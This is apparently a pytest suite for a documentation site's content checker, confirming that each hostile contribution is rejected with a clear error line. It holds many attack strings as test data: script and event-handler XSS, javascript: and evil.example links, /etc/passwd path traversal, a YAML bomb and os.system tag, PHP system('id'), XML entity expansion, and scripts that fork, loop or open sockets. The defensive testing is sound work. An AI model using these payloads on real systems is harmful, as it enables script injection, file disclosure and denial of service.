"""Broken and hostile contributions: a clear line each, no traceback, no hang, nothing run."""

from __future__ import annotations

import signal
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from types import FrameType

import pytest

from bank.__main__ import main
from bank.build import start_build
from bank.figures import harmless_figures
from conftest import ROOT, Project

ZH = "docs/alpha/softmax-sum.zh.md"
EN = "docs/alpha/softmax-sum.en.md"
OPEN = "docs/alpha/open-question.en.md"
REGISTRY = "docs/questions.yml"
TAXONOMY = "docs/taxonomy.yml"
BIB = "docs/references.bib"
GLOSSARY = "docs/glossary.yml"
SCRIPT = "docs/alpha/softmax-sum.py"
FIGURE = "docs/alpha/softmax-sum.en.svg"
DRAWS = "docs/alpha/softmax-sum.figure.py"
SECONDS = 60
PNG = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class Attack:
    """What a contribution brings, and the line that must answer: (path, rule)."""

    name: str
    attack: Callable[[Project], None]
    path: str
    rule: str
    run: bool = False


def text(line: str) -> Callable[[Project], None]:
    """Put a paragraph into the explanation of the English page."""

    def change(project: Project) -> None:
        project.replace(EN, "## Common mistakes", f"{line}\n\n## Common mistakes")

    return change


def put(path: str, content: str | bytes) -> Callable[[Project], None]:
    return lambda project: project.write(path, content)


def script(source: str) -> Callable[[Project], None]:
    return lambda project: project.write(SCRIPT, f"import os\n{source}\nassert True\n")


def link(path: str, target: str) -> Callable[[Project], None]:
    return lambda project: (project.root / path).symlink_to(target)


def folder(path: str) -> Callable[[Project], None]:
    return lambda project: (project.root / path).mkdir()


def drawing(name: str, old: str, new: str) -> Attack:
    """Change the file of a figure, which becomes part of its page."""
    return Attack(f"figure: {name}", lambda p: p.replace(FIGURE, old, new), FIGURE, "FILE-02")


def page(name: str, line: str, rule: str) -> Attack:
    return Attack(name, text(line), EN, rule)


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8)
)
ATTACKS = [
    # HTML that would run
    page("script", "<script>alert(1)</script>", "HTML-01"),
    page("script in capitals", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "HTML-01"),
    page("script cut open", "<script", "HTML-01"),
    page("handler", '<img src=x onerror="alert(1)">', "HTML-01"),
    page("handler on a harmless tag", '<kbd onclick="alert(1)">x</kbd>', "HTML-01"),
    page("handler by attribute list", "A *word*{ onclick=alert(1) } here.", "HTML-01"),
    page("style by attribute list", "A *word*{ style=position:fixed } here.", "HTML-01"),
    page("iframe", '<iframe src="https://evil.example"></iframe>', "HTML-01"),
    page("object", '<object data="x.swf"></object>', "HTML-01"),
    page("svg with a script", "<svg><script>alert(1)</script></svg>", "HTML-01"),
    page("svg with a handler", '<svg onload="alert(1)"></svg>', "HTML-01"),
    page("math with an action", '<math href="javascript:alert(1)">x</math>', "HTML-01"),
    page("form", '<form action="https://evil.example"><input></form>', "HTML-01"),
    page("meta refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">', "HTML-01"),
    page("base", '<base href="https://evil.example/">', "HTML-01"),
    page("style element", "<style>body { display: none }</style>", "HTML-01"),
    page("link element", '<link rel="stylesheet" href="//evil.example/x.css">', "HTML-01"),
    page("template", "<template><script>1</script></template>", "HTML-01"),
    page("processing instruction", "<?php system('id') ?>", "HTML-01"),
    page("cdata", "<![CDATA[<script>alert(1)</script>]]>", "HTML-01"),
    page("comment cut open", "<!-- never closed", "HTML-01"),
    page("html inside a list", "- <details open ontoggle=alert(1)>x</details>", "HTML-01"),
    page("html inside a table", "| a |\n|---|\n| <b onclick=x>y</b> |", "HTML-01"),
    # links and pictures
    page("javascript link", "[x](javascript:alert(1))", "LINK-03"),
    page("javascript in capitals", "[x](JaVaScRiPt:alert(1))", "LINK-03"),
    page("javascript in pieces", "[x](java&#10;script:alert(1))", "LINK-03"),
    page("data link", "[x](data:text/html;base64,PHNjcmlwdD4=)", "LINK-03"),
    page("vbscript link", "[x](vbscript:x)", "LINK-03"),
    page("file link", "[x](file:///etc/passwd)", "LINK-03"),
    page("http link", "[x](http://evil.example)", "LINK-03"),
    page("autolink", "<javascript:alert(1)>", "LINK-03"),
    page("link without a host", "[x](//evil.example/a)", "LINK-03"),
    page("link out of the site", "[x](../../../../etc/passwd)", "LINK-01"),
    page("absolute link", "[x](/etc/passwd)", "LINK-01"),
    page("encoded link", "[x](..%2f..%2f..%2fetc/passwd)", "LINK-01"),
    page("picture of another host", "![x](https://evil.example/track.gif)", "LINK-04"),
    page("picture by data", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "LINK-04"),
    page("picture out of the site", "![x](../../../secret.png)", "LINK-04"),
    # includes
    page("include of a system file", '--8<-- "/etc/passwd"', "EXP-03"),
    page("include out of docs", '--8<-- "../../../../etc/passwd"', "EXP-03"),
    page("include of an address", '--8<-- "https://evil.example/x"', "EXP-03"),
    page("include in a fence", '```text\n--8<-- "../mkdocs.yml"\n```', "EXP-03"),
    page("include block", "--8<--\n../mkdocs.yml\n--8<--", "EXP-03"),
    # formulas
    page("link in a formula", r"A $\href{javascript:alert(1)}{x}$ here.", "TEX-01"),
    page("html in a formula", r"A $\htmlData{x=1}{y}$ here.", "TEX-01"),
    page("picture in a formula", r"A $\includegraphics{https://evil.example/x}$ here.", "TEX-01"),
    page("endless macro", r"A $\def\x{\x\x}\x$ here.", "TEX-01"),
    page("growing macro", r"A $\def\a{xx}\def\b{\a\a}\def\c{\b\b}" + r"\c" * 600 + "$.", "TEX-01"),
    page("deep formula", "A $" + "{" * 2000 + "x" + "}" * 2000 + "$ here.", "TEX-01"),
    page("huge rule", r"A $\rule{1e9em}{1e9em}\fraq$ here.", "TEX-01"),
    # bytes
    Attack("not utf-8", put(OPEN, b"# A question?\n\xff\xfe\n"), OPEN, "PAGE-01"),
    Attack("utf-16", put(OPEN, "# A question?\n".encode("utf-16")), OPEN, "PAGE-01"),
    Attack("binary page", put(OPEN, bytes(range(256)) * 40), OPEN, "PAGE-01"),
    Attack("elf named .md", put(OPEN, b"\x7fELF\x02\x01\x01\0" + b"\0" * 64), OPEN, "PAGE-01"),
    Attack("byte order mark", put(OPEN, b"\xef\xbb\xbf# A question?\n"), OPEN, "PAGE-01"),
    Attack("carriage returns", put(OPEN, b"# A question?\r\n"), OPEN, "PAGE-01"),
    Attack("nul", put(OPEN, b"# A ques\0tion?\n"), OPEN, "PAGE-01"),
    Attack("50 MB", put(OPEN, b"# A question?\n" + b"x\n" * 25_000_000), OPEN, "PAGE-01"),
    Attack("one long line", put(OPEN, "# A question?\n" + "[" * 100_000), OPEN, "PAGE-01"),
    Attack("conflict", put(OPEN, "# A question?\n<<<<<<< HEAD\n"), OPEN, "PAGE-01"),
    Attack("deep lists", put(OPEN, "# A question?\n\n" + "- " * 2_000 + "x\n"), OPEN, "PAGE-08"),
    # data files
    Attack("yaml bomb", put(TAXONOMY, BOMB), TAXONOMY, "REG-01"),
    Attack("yaml tag", put(REGISTRY, "!!python/object/apply:os.system [id]\n"), REGISTRY, "REG-01"),
    Attack("yaml of 50 MB", put(REGISTRY, "- x\n" * 12_500_000), REGISTRY, "REG-01"),
    Attack("deep yaml", put(REGISTRY, "[" * 20_000), REGISTRY, "REG-01"),
    Attack("yaml of bytes", put(GLOSSARY, b"\xff\x00"), GLOSSARY, "REG-01"),
    Attack("merge key", put(REGISTRY, "- <<: *x\n"), REGISTRY, "REG-01"),
    Attack("slug with a path", lambda project: project.replace(
        REGISTRY, "slug: open-question", "slug: ../../x"), REGISTRY, "REG-01"),
    Attack("bibtex cut open", put(BIB, "@article{x, title = {" + "{" * 5_000), BIB, "REF-01"),
    Attack("bibtex with a bad address", lambda p: p.write(BIB, p.read(BIB).replace(
        "eprint", "url = {javascript:alert(1)}, eprint", 1)), BIB, "REF-04"),
    # files
    Attack("html file", put("docs/evil.html", "<script>1</script>"), "docs/evil.html", "FILE-01"),
    Attack("script file", put("docs/alpha/evil.js", "alert(1)"), "docs/alpha/evil.js", "FILE-01"),
    Attack("theme file", put("docs/assets/javascripts/x.js", "1"),
           "docs/assets/javascripts/x.js", "FILE-01"),
    Attack("hidden file", put("docs/.htaccess", "x"), "docs/.htaccess", "FILE-01"),
    Attack("symbolic link", link("docs/alpha/passwd.md", "/etc/passwd"),
           "docs/alpha/passwd.md", "FILE-01"),
    Attack("broken link", link("docs/x.md", "/nowhere"), "docs/x.md", "FILE-01"),
    Attack("link to a folder", link("docs/root", "/"), "docs/root", "FILE-01"),
    Attack("huge picture", put("docs/alpha/x.png", PNG + b"\0" * 400_000),
           "docs/alpha/x.png", "FILE-02"),
    Attack("false picture", put("docs/alpha/x.png", b"GIF89a"), "docs/alpha/x.png", "FILE-02"),
    Attack("svg file with a script", put("docs/alpha/x.svg", "<svg><script>1</script></svg>"),
           "docs/alpha/x.svg", "FILE-02"),
    Attack("svg file with a handler", put("docs/alpha/x.svg", '<svg onload="x()"></svg>'),
           "docs/alpha/x.svg", "FILE-02"),
    Attack("svg file with entities", put(
        "docs/alpha/x.svg", '<!DOCTYPE x [<!ENTITY a "b">]><svg/>'),
        "docs/alpha/x.svg", "FILE-02"),
    Attack("svg file of another host", put(
        "docs/alpha/x.svg", '<svg><image href="https://evil.example/x"/></svg>'),
        "docs/alpha/x.svg", "FILE-02"),
    # figures
    drawing("script", "</svg>", "<script>alert(1)</script></svg>"),
    drawing("script of another namespace", "</svg>",
            '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>'),
    drawing("end of the picture", "they sum to 1", "</text></svg><script>alert(1)</script>"),
    drawing("handler", "<rect ", '<rect onclick="alert(1)" '),
    drawing("handler of the picture", "<svg ", '<svg onload="alert(1)" '),
    drawing("link", "</svg>", '<a href="javascript:alert(1)"><text>x</text></a></svg>'),
    drawing("link in an attribute", "<rect ", '<rect href="https://evil.example" '),
    drawing("foreign object", "</svg>",
            '<foreignObject><iframe src="//evil.example"/></foreignObject></svg>'),
    drawing("picture", "</svg>", '<image href="https://evil.example/x"/></svg>'),
    drawing("use", "</svg>", '<use href="data:image/svg+xml,x#y"/></svg>'),
    drawing("animation", "</defs>",
            '</defs><set attributeName="href" to="javascript:alert(1)"/>'),
    drawing("title", "</defs>", "</defs><title><img src=x onerror=alert(1)/></title>"),
    drawing("style of its own", "<style>", "<style>body{display:none}"),
    drawing("import", "</style>", '@import url("//evil.example/x.css");</style>'),
    drawing("second style", "</style>", "</style><style>*{color:red}</style>"),
    drawing("style attribute", "<rect ", '<rect style="fill:url(//evil.example)" '),
    drawing("fill from elsewhere", 'fill="var(--a)"', 'fill="url(//evil.example#a)"'),
    drawing("marker from elsewhere", "url(#head-plain)", "url(//evil.example#a)"),
    drawing("id of the page", 'id="head-plain"', 'id="__search"'),
    drawing("class", "<rect ", '<rect class="md-overlay" '),
    drawing("transform over the page", "<text ", '<text transform="scale(999)" '),
    drawing("entity", "<svg ", '<!DOCTYPE svg [<!ENTITY a "b">]><svg '),
    drawing("entities that grow", "<svg ", '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
            '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg '),
    drawing("instruction", "<svg ", '<?xml-stylesheet href="//evil.example/x.css"?><svg '),
    drawing("declaration", "<svg ", '<?xml version="1.0" encoding="utf-7"?><svg '),
    drawing("comment", "</svg>", "<!-- --><img src=x onerror=alert(1)> --></svg>"),
    drawing("cdata", "they sum to 1", "<![CDATA[<script>alert(1)</script>]]>"),
    drawing("words outside of text", "</svg>", "alert(1)</svg>"),
    drawing("picture in the picture", "</svg>", '<svg viewBox="0 0 9 9"/></svg>'),
    drawing("cut open", "</svg>", "<g"),
    Attack("figure: bytes", put(FIGURE, b"\xff\xfe\0"), FIGURE, "FILE-02"),
    Attack("figure: deep", put(FIGURE, "<text>" * 2_000), FIGURE, "FILE-02"),
    Attack("figure: empty", put(FIGURE, ""), FIGURE, "FILE-02"),
    Attack("figure: huge", put(FIGURE, "<svg>" + " " * 400_000), FIGURE, "FILE-02"),
    Attack("figure: a link to a file", lambda p: (p.root / FIGURE).unlink() or link(
        FIGURE, "/etc/passwd")(p), FIGURE, "FILE-01"),
    Attack("figure: network", put(DRAWS, "import socket\nsocket.create_connection(('::1', 9))"),
           DRAWS, "FIG-01", run=True),
    Attack("figure: the rest of the bank", put(DRAWS, "import bank.build"),
           DRAWS, "FIG-01", run=True),
    Attack("figure: endless", put(DRAWS, "while True: pass"), DRAWS, "FIG-01", run=True),
    Attack("figure: endless output", put(DRAWS, "while True: print('x' * 10**6)"),
           DRAWS, "FIG-01", run=True),
    Attack("figure: deep json", put(DRAWS, "print('[' * 100_000)"), DRAWS, "FIG-01", run=True),
    Attack("figure: half a character", put(
        DRAWS, "print('{\"zh\": \"\\\\ud800\", \"en\": \"\"}')"), DRAWS, "FIG-01", run=True),
    Attack("figure: script of bytes", put(DRAWS, b"\xff\xfe\0"), DRAWS, "FIG-01", run=True),
    # experiments
    Attack("endless loop", script("while True: pass"), SCRIPT, "EXP-01", run=True),
    Attack("all memory", script("x = bytearray(10**11)"), SCRIPT, "EXP-01", run=True),
    Attack("network", script("import socket; socket.create_connection(('127.0.0.1', 9))"),
           SCRIPT, "EXP-01", run=True),
    Attack("file", script("open('/tmp/evil', 'w')"), SCRIPT, "EXP-01", run=True),
    Attack("process", script("os.system('id')"), SCRIPT, "EXP-01", run=True),
    Attack("fork", script("os.fork()"), SCRIPT, "EXP-01", run=True),
    Attack("endless output", script("while True: print('x' * 10**6)"), SCRIPT, "EXP-01", run=True),
    Attack("script of bytes", put(SCRIPT, b"\xff\xfe\0"), SCRIPT, "EXP-01", run=True),
    Attack("deep script", put(SCRIPT, "(" * 5_000), SCRIPT, "EXP-01", run=True),
]  # fmt: skip


@pytest.fixture
def deadline() -> Iterator[None]:
    def late(number: int, frame: FrameType | None) -> None:
        raise TimeoutError(f"no answer after {SECONDS} s")

    before = signal.signal(signal.SIGALRM, late)
    signal.alarm(SECONDS)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.mark.parametrize("case", ATTACKS, ids=lambda case: case.name)
def test_attack_is_answered(
    case: Attack,
    project: Project,
    deadline: None,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("bank.experiments.TIMEOUT_SECONDS", 3)
    case.attack(project)
    status = main(["--root", str(project.root), "check", *([] if case.run else ["--no-run"])])
    printed = capsys.readouterr()
    assert status == 1
    assert printed.err == ""
    lines = [line for line in printed.out.splitlines() if line.startswith(f"{case.path}:")]
    assert any(f": {case.rule}: " in line for line in lines), printed.out[-3000:]
    assert all(len(line) < 700 for line in printed.out.splitlines())


@pytest.mark.parametrize(
    "line",
    [
        ">" * 4_000 + " x",
        "*" * 4_000 + " " + "_*" * 200,
        "[" * 2_400 + "](" * 1_200,
        "`" * 2_499 + " " + "`" * 2_400,
        "<" * 4_900,
        "a" * 2_400 + "\\" * 2_400,
        "|" * 4_900,
        "![" * 2_400,
        "$" * 4_900,
        "&#" * 2_400,
        "1. " * 1_600,
        "x " * 2_400 + "{ #" * 30,
    ],
    ids=range(12),
)
def test_line_that_kills_patterns_is_read_in_time(
    line: str, project: Project, deadline: None, capsys: pytest.CaptureFixture[str]
) -> None:
    text(line)(project)
    assert main(["--root", str(project.root), "check", "--no-run"]) in (0, 1)
    assert capsys.readouterr().err == ""


def test_folder_named_like_a_page_breaks_nothing(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    folder("docs/alpha/folder.md")(project)
    assert main(["--root", str(project.root), "check", "--no-run"]) == 0
    assert "Traceback" not in capsys.readouterr().err


def test_a_build_runs_no_experiment(project: Project, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    project.write(SCRIPT, f"open({str(mark)!r}, 'w')\nassert True\n")
    phrases = (ROOT / "overrides/phrases.yml").read_text(encoding="utf-8")
    project.write("overrides/phrases.yml", phrases)
    start_build(project.root).close()
    assert not mark.exists()


@pytest.mark.parametrize("case", [c for c in ATTACKS if c.rule == "FILE-02" and c.path == FIGURE])
def test_a_build_takes_no_hostile_figure(case: Attack, project: Project) -> None:
    assert set(harmless_figures(project.root)) == {
        "alpha/softmax-sum.en.svg",
        "alpha/softmax-sum.zh.svg",
    }
    case.attack(project)
    assert set(harmless_figures(project.root)) == {"alpha/softmax-sum.zh.svg"}
